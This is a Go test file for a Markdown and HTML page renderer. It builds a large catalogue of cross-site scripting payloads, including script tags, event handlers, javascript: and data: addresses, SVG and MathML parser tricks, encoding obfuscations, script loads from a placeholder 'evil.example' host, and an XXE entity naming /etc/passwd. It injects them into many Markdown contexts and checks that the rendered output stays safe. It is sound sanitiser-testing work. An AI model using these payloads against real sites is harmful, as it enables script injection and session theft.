package page

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"vernacular/internal/data"
	"vernacular/internal/diag"
	"vernacular/internal/frontmatter"
	"vernacular/internal/markup"
)

// attacks are ways to smuggle a script, a request or a disguise into a page: the families that the
// OWASP cheat sheet and the test suites of sanitisers go through, written anew.
func attacks() []string {
	var out []string
	add := func(s ...string) { out = append(out, s...) }

	// Elements that run or load by themselves.
	add(`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script>alert(1)//`, `<script`, `<script/x>alert(1)</script>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<<script>alert(1)//<</script>`, `<script>/*</script><script>*/alert(1)</script>`,
		"<script\n>alert(1)</script\n>", `<script type=module>import("//evil.example")</script>`, `<sCrIpT>alert(1)</sCrIpT >`,
		`<style>*{background:url(javascript:alert(1))}</style>`, `<style>@import "//evil.example/x.css"</style>`, `<style></style><img src=x onerror=alert(1)>`,
		`<iframe src=javascript:alert(1)></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=javascript:alert(1)></object>`,
		`<embed src=javascript:alert(1)>`, `<applet code=x></applet>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
		`<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=x>`, `<frameset onload=alert(1)>`, `<frame src=javascript:alert(1)>`,
		`<form action=javascript:alert(1)><input type=submit></form>`, `<button formaction=javascript:alert(1)>x</button>`, `<isindex action=javascript:alert(1) type=image>`,
		`<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`,
		`<video src=x onerror=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<video poster=javascript:alert(1)>`,
		`<body onload=alert(1)>`, `<html onmouseover=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`, `<bgsound src=javascript:alert(1)>`, `<layer src=x></layer>`,
		`<xml id=x><x>&lt;script></x></xml>`, `<dialog open onclose=alert(1)>`, `<slot onslotchange=alert(1)>`, `<portal src=//evil.example>`, `<template><script>alert(1)</script></template>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<noembed><img src=x onerror=alert(1)></noembed>`, `<xmp><img src=x onerror=alert(1)></xmp>`,
		`<plaintext><img src=x onerror=alert(1)>`, `<listing>&lt;img src=x onerror=alert(1)></listing>`, `<comment><img src="</comment><img src=x onerror=alert(1)">`)

	// Foreign content, and what its parsing rules hide.
	add(`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`,
		`<svg><set attributeName=onmouseover to=alert(1)>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">`, `<svg><foreignObject><body onload=alert(1)>`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><p><style><g title="</style><img src onerror=alert(1)>">`,
		`<math href=javascript:alert(1)>x</math>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		`<math><mi xlink:href="data:x,<script>alert(1)</script>">`, `<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>`, `<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]>`)

	// Comments, declarations and other things that browsers read differently from each other.
	add(`<!--><img src=x onerror=alert(1)>-->`, `<!---><img src=x onerror=alert(1)>-->`, `<!-- --!><img src=x onerror=alert(1)>-->`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
		`<!-- -- --><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`, `<![><img src="]><img src=x onerror=alert(1)//">`, `<? foo="><script>alert(1)</script>">`, `<! foo="><script>alert(1)</script>">`,
		`</ foo="><script>alert(1)</script>">`, `<% foo><x foo="%><script>alert(1)</script>">`, `<!ENTITY x "<script>alert(1)</script>">`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`,
		`<?xml-stylesheet href="javascript:alert(1)"?>`, `<!-- x`, `<!-`, `<!`, `<?`, `</`, `<`, `<a`, `<a href`, `<a href=`, `<a href="`, `<img src="x" onerror="alert(1)`, `<img """><script>alert(1)</script>">`,
		`<img src=x onerror=alert(1)//`, "<img\tsrc=x\tonerror=alert(1)>", "<img\nsrc=x\nonerror=alert(1)>", "<img\fsrc=x\fonerror=alert(1)>", `<img/src=x/onerror=alert(1)>`, "<img src=x\x0bonerror=alert(1)>",
		`<img src='x' 'onerror=alert(1)'>`, "<img src=`x`onerror=alert(1)>", `<a href="x"onclick="alert(1)">y</a>`, `<a href=x onclick=alert(1)//>y</a>`, `<a ="" onclick=alert(1)>x</a>`, `<a " onclick=alert(1)>x</a>`,
		`<a href="&#34; onclick=alert(1) x=&#34;">y</a>`, `<a title="&quot; onmouseover=&quot;alert(1)">y</a>`, `<b title='"onmouseover=alert(1)'>y</b>`, `<b title="'><script>alert(1)</script>">y</b>`, `<b title="</b><script>alert(1)</script>">y</b>`,
		`<b/onclick=alert(1)>y</b>`, `<b//onclick=alert(1)>y</b>`, `<b onclick>y</b>`, `<b ONCLICK=alert(1)>y</b>`, `<b onclick&#61;alert(1)>y</b>`, `<b &#111;nclick=alert(1)>y</b>`, `<b x:onclick=alert(1)>y</b>`,
		`<x onclick=alert(1)>y</x>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">x</a>`,
		`<custom-element is=script onfoo=alert(1)>`, `<img src=x usemap=#m><map name=m><area href=javascript:alert(1)></map>`, `<img srcset="javascript:alert(1) 1x">`, `<img lowsrc=javascript:alert(1)>`, `<img dynsrc=javascript:alert(1)>`,
		`<table background=javascript:alert(1)>`, `<td background=javascript:alert(1)>`, `<div style="background:url(javascript:alert(1))">x</div>`, `<div style="width:expression(alert(1))">x</div>`, `<div style=behavior:url(x)>x</div>`,
		`<div style="position:fixed;inset:0">x</div>`, `<p id="x" name="x"></p>`, `<a id=x name=y href="cid:x">z</a>`, `<img name=body src=x>`, `<a ping=//evil.example href=/u>x</a>`, `<a target=_blank href=/u>x</a>`, `<a download href=/u>x</a>`,
		`<details open ontoggle=alert(1)><summary>x</summary></details>`, `<q cite=javascript:alert(1)>x</q>`, `<blockquote cite=" javascript:alert(1)">x</blockquote>`, `<del cite="java&#9;script:alert(1)">x</del>`,
		`<ruby><rt onclick=alert(1)>x`, `<bdo dir=ltr onclick=alert(1)>x</bdo>`, `<time datetime="2020-01-01" onclick=alert(1)>x</time>`, `<ol start="1" onclick=alert(1)><li value="1" onclick=alert(1)>x</ol>`)

	// What ends the context it is put into.
	for _, end := range []string{`"`, `'`, "`", `)`, `]`, `>`, `}`, `|`, `</p>`, `</h2>`, `</a>`, `</td></table>`, `</li></ol></div>`, `-->`, "\n\n", "```\n", `"/>`, `'/>`, `">`, `'>`, `\">`, `&quot;>`, `&gt;`} {
		add(end+`<script>alert(1)</script>`, end+`<img src=x onerror=alert(1)>`, end+` onmouseover=alert(1) x=`, end+`<svg/onload=alert(1)>`)
	}

	// Addresses.
	var addresses []string
	for _, scheme := range []string{"javascript", "JavaScript", "vbscript", "data", "blob", "file", "view-source", "feed:javascript", "jar", "livescript", "mocha", "about", "chrome", "ws", "filesystem", "intent", "ms-settings", "x-unknown"} {
		addresses = append(addresses, scheme+":alert(1)")
	}
	addresses = append(addresses, "java\tscript:alert(1)", "java\nscript:alert(1)", "java&#9;script:alert(1)", "java&#x0A;script:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#106;avascript:alert(1)",
		"&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "&#x6Aavascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3A;alert(1)", "javascript&#0058;alert(1)", "\x01javascript:alert(1)",
		"&#1;javascript:alert(1)", "&#14;javascript:alert(1)", " javascript:alert(1)", "&#32;javascript:alert(1)", "&nbsp;javascript:alert(1)", "&#xFEFF;javascript:alert(1)", "&#x200B;javascript:alert(1)", "j\\avascript:alert(1)",
		"javascript\\:alert(1)", "javascript:\\/\\/x", "javascript://%0aalert(1)", "javascript:/*--></title></style></script><svg/onload=alert(1)>", "jav\x00ascript:alert(1)", "jav&#0;ascript:alert(1)", "java%0ascript:alert(1)",
		"%6aavascript:alert(1)", "javascript%3Aalert(1)", "ｊavascript:alert(1)", "jаvascript:alert(1)", "javascript：alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>",
		"data&colon;text/html,x", "//evil.example/x", "///evil.example/x", "/\\evil.example/x", "\\\\evil.example/x", "/\t/evil.example", "http:evil.example", "https:/evil.example", "http:\\\\evil.example", "http:///evil.example", "http://", "https://@", "https://a@b@c",
		"http://x\" onclick=alert(1)", "http://x' onclick='alert(1)", "http://x><script>alert(1)</script>", "mailto:x\" onclick=alert(1)", "mailto:a@b.c?body=<script>", "tel:\"onclick=alert(1)", "#\" onclick=alert(1)", "?\"><script>alert(1)</script>",
		"x y\" onclick=alert(1)", "&quot;onclick=alert(1)", "u\"onclick=alert(1)", "http://[::1]/\"x", "https://x.org/&quot;&gt;&lt;script&gt;", "u`onclick=alert(1)")
	for _, a := range addresses {
		add(a, fmt.Sprintf(`<a href="%s">x</a>`, a), fmt.Sprintf(`<a href='%s'>x</a>`, a), fmt.Sprintf(`<a href=%s>x</a>`, a), fmt.Sprintf(`<img src="%s" alt=x>`, a), fmt.Sprintf("[x](%s)", a), fmt.Sprintf("[x](<%s>)", a),
			fmt.Sprintf("![x](%s)", a), fmt.Sprintf("<%s>", a), fmt.Sprintf("[x][r]\n\n[r]: %s\n", a), fmt.Sprintf("[x][r]\n\n[r]: <%s> '%s'\n", a, `"onclick=alert(1)`))
	}

	// Event handlers on elements that are allowed.
	for _, ev := range strings.Fields("onabort onactivate onafterprint onanimationend onauxclick onbeforecopy onbeforetoggle onbeforeunload onbegin onblur oncancel oncanplay onchange onclick onclose oncontextmenu oncopy oncut ondblclick ondrag " +
		"ondrop onend onerror onfocus onfocusin onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onload onmessage onmousedown onmouseenter onmousemove onmouseover onmousewheel onpageshow " +
		"onpaste onplay onpointerdown onpointerenter onpointerrawupdate onpopstate onprogress onratechange onrepeat onreset onresize onscroll onscrollend onsearch onseeked onselect onselectstart onshow onstart onstorage onsubmit ontimeupdate " +
		"ontoggle ontouchstart ontransitionend onunhandledrejection onunload onvolumechange onwebkitanimationend onwheel") {
		add(fmt.Sprintf("<b %s=alert(1)>x</b>", ev), fmt.Sprintf(`<img src="x" alt="y" %s="alert(1)">`, ev))
	}

	// Markdown's own syntax.
	add("[x](u \"\" onclick=alert(1) \")", "[x](u '\"><script>alert(1)</script>')", "![\"onerror=alert(1)](u)", "![x](u \"y\" onerror=\"alert(1)\")", "[x]: javascript:alert(1)\n[x]", "[<script>alert(1)</script>](u)", "[x](u)<script>alert(1)</script>",
		"# x {onclick=alert(1)}", "# x {#y onclick=alert(1)}", "# x {#y\"onclick=alert(1)}", "# x {#<script>}", "# x {.y style=\"z\"}", "x {#\"><img>}\n===", "``` \"onclick=alert(1)\nx\n```", "```html<script>\n<script>alert(1)</script>\n```",
		"~~~ x\"><script>alert(1)</script>\n~~~", "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x", "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
		"|<script>alert(1)</script>|\n|-|\n|\"onclick=alert(1)|", "| a |\n|:\"-|\n", "<https://x.org/\"onclick=alert(1)>", "<x@y.z\"onclick=alert(1)>", "https://x.org/\"onclick=alert(1)", "https://x.org/'><script>alert(1)</script>",
		"&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3C;img src=x onerror=alert(1)&#x3E;", "\\<script>alert(1)\\</script>", "<scr\\ipt>alert(1)</script>", "<script>\nalert(1)\n\n</script>", "<p>\n\n<script>alert(1)</script>\n\n</p>",
		"<div\n\nonclick=alert(1)>", "<div title=\"\n\n\"onclick=alert(1)>", "*<b onclick=alert(1)>*x", "[<b onclick=alert(1)>x](u)", "<a href=\"u\">[x](javascript:alert(1))</a>", "- <script>alert(1)</script>", "> <script>alert(1)</script>",
		"<b>\u202e</b><script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "\u2028<script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\xc0\xbcscript\xc0\xbealert(1)", "\xe2<img src=x onerror=alert(1)>", "<img src=\"\xff\"onerror=alert(1)>",
		"﹤script﹥alert(1)", "＜script＞alert(1)＜/script＞", "<ſcript>alert(1)</ſcript>", "<ıframe src=x>", "{{alert(1)}}", "{{template \"x\"}}", "${alert(1)}", "<%= x %>", "#{alert(1)}", "\x1b]0;x\x07", "<plaintext/onclick=alert(1)>")
	return out
}

// places says where an attack is put; %s is the attack. Line ends in an attack would end some of the
// places, which is an attack in itself.
var attackPlaces = []struct{ name, file, src string }{
	{"body", "p.md", "%s"},
	{"paragraph", "p.md", "text %s text"},
	{"heading", "p.md", "## a %s b\n"},
	{"heading id", "p.md", "## a {#%s}\n"},
	{"setext heading", "p.md", "a %s\n===\n"},
	{"emphasis", "p.md", "*a **%s** b*"},
	{"link text", "p.md", "[a %s b](/u)"},
	{"link title", "p.md", "[a](/u \"%s\")"},
	{"link title, single", "p.md", "[a](/u '%s')"},
	{"link destination", "p.md", "[a](%s)"},
	{"link destination, angles", "p.md", "[a](<%s>)"},
	{"reference", "p.md", "[a][r]\n\n[r]: %s \"%s\"\n"},
	{"alternative text", "p.md", "![%s](/u)"},
	{"picture address", "p.md", "![a](%s)"},
	{"autolink", "p.md", "<%s>"},
	{"bare link", "p.md", "https://x.org/%s"},
	{"code", "p.md", "`%s`"},
	{"code language", "p.md", "```%s\nx\n```"},
	{"code block", "p.md", "```\n%s\n```"},
	{"list item", "p.md", "- %s\n- b"},
	{"quotation", "p.md", "> %s"},
	{"table cell", "p.md", "| a | %s |\n|---|---|\n| %s | b |"},
	{"footnote", "p.md", "a[^1]\n\n[^1]: %s"},
	{"footnote name", "p.md", "a[^%s]\n\n[^%s]: b"},
	{"raw block", "p.md", "<div>\n%s\n</div>"},
	{"raw block with Markdown", "p.md", "<div>\n\n%s\n\n</div>"},
	{"raw inline", "p.md", "a <b>%s</b> c"},
	{"raw attribute", "p.md", "a <b title=\"%s\">c</b>"},
	{"raw attribute, single", "p.md", "a <b title='%s'>c</b>"},
	{"raw attribute, bare", "p.md", "a <b title=%s>c</b>"},
	{"raw class", "p.md", "a <b class=\"%s\" id=\"%s\" lang=\"%s\" dir=\"%s\">c</b>"},
	{"raw href", "p.md", "a <a href=\"%s\">c</a>"},
	{"comment", "p.md", "a <!-- %s --> c"},
	{"html page", "p.html", "<p>a</p>%s<p>b</p>"},
	{"html page, attribute", "p.html", "<p title=\"%s\">b</p>"},
	{"html page, table", "p.html", "<table><tr><td>%s</table>"},
}

// FAULTS I14 and I15: whatever stands wherever, a browser's parser finds in the output no element
// outside the allow-list, no handler, no style and no address of another kind; errors or not.
// voidText are the elements of text that hold nothing.
var voidText = []string{"br", "img", "wbr"}

func isAllowed(name string) bool {
	return markup.IsBlock(name) || markup.HoldsText(name) || slices.Contains(voidText, name)
}

func TestAttacksComeToNothing(t *testing.T) {
	list := attacks()
	if len(list) < 800 {
		t.Errorf("only %d attacks", len(list))
	}
	published, told := 0, 0
	for _, p := range attackPlaces {
		for i, a := range list {
			src := strings.ReplaceAll(p.src, "%s", a)
			d, diags := Parse(p.file, []byte(src), Options{Typographer: i%3 == 0})
			// A resolver may answer anything.
			out, more := d.Render(markup.RenderOptions{Resolve: func(dest string, image bool) (string, bool) { return dest, i%2 == 0 }})
			if bad := unsafeHTML(out); bad != "" {
				t.Fatalf("%s: %q\n%s in\n%s", p.name, src, bad, out)
			}
			if d.Lost {
				continue
			}
			published++
			if diag.HasErrors(append(diags, more...)) {
				told++
			}
			if bad := invalidHTML(out); bad != "" {
				t.Fatalf("%s: %q\n%s in\n%s", p.name, src, bad, out)
			}
		}
	}
	t.Logf("%d attacks in %d places; %d pages are published, %d with an error", len(list), len(attackPlaces), published, told)
}

// The same in front matter: values come out as the text they are, for the layout to escape, and none
// with a control character.
func TestAttacksInFrontMatterStayText(t *testing.T) {
	for _, a := range attacks() {
		quoted := "'" + strings.ReplaceAll(a, "'", "''") + "'"
		m, _ := frontmatter.Parse("p.md", []byte("---\ntitle: "+quoted+"\nhero:\n  alt: "+quoted+"\n---\n"), frontmatter.Limits{})
		if m.Lost {
			continue
		}
		seen := strings.Map(func(r rune) rune {
			if data.IsForbidden(r) {
				return -1
			}
			return r
		}, a)
		for _, path := range []string{"title", "hero.alt"} {
			s, ok := m.String(path)
			if !ok && strings.ContainsFunc(a, data.IsOverride) {
				continue
			}
			if !ok || strings.IndexFunc(s, data.IsForbidden) >= 0 || strings.ContainsAny(s, "\u202d\u202e") {
				t.Errorf("%s of %q is %q", path, a, s)
			}
			if strings.Join(strings.Fields(s), " ") != strings.Join(strings.Fields(seen), " ") {
				t.Errorf("%s of %q is %q", path, a, s)
			}
		}
	}
}

// unsafeHTML looks for anything in the output that could run, load or lead where it must not, as a
// browser's parser would see it.
func unsafeHTML(out string) string {
	root, err := html.Parse(strings.NewReader("<!doctype html><html><body>" + out))
	if err != nil {
		return err.Error()
	}
	bad := ""
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if n.Namespace != "" {
				bad = "foreign element " + n.Data
			}
			if !isAllowed(n.Data) && n.Data != "html" && n.Data != "head" && n.Data != "body" {
				bad = "element " + n.Data
			}
			for _, a := range n.Attr {
				switch {
				case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", a.Key == "srcset", a.Key == "formaction", strings.Contains(a.Key, ":"):
					bad = "attribute " + a.Key
				case a.Key == "href" || a.Key == "src" || a.Key == "cite":
					if s := leadsTo(a.Val); s != "" {
						bad = a.Key + " " + s
					}
				}
			}
		}
		if n.Type == html.CommentNode {
			bad = "comment " + n.Data
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(root)
	return bad
}

// leadsTo reads an address as the URL Standard does (§4.4: controls and spaces around it are dropped,
// tabs and line ends everywhere) and names what is not on the allow-list.
func leadsTo(u string) string {
	u = strings.TrimFunc(u, func(r rune) bool { return r <= ' ' })
	u = strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(u)
	if strings.HasPrefix(u, "//") || strings.HasPrefix(u, "/\\") || strings.HasPrefix(u, "\\") {
		return "another server: " + u
	}
	i := strings.IndexAny(u, ":/?#")
	if i < 0 || u[i] != ':' {
		return ""
	}
	switch strings.ToLower(u[:i]) {
	case "http", "https":
		if !strings.HasPrefix(u[i:], "://") {
			return "odd address " + u
		}
	case "mailto", "tel":
	default:
		return "scheme " + u
	}
	return ""
}
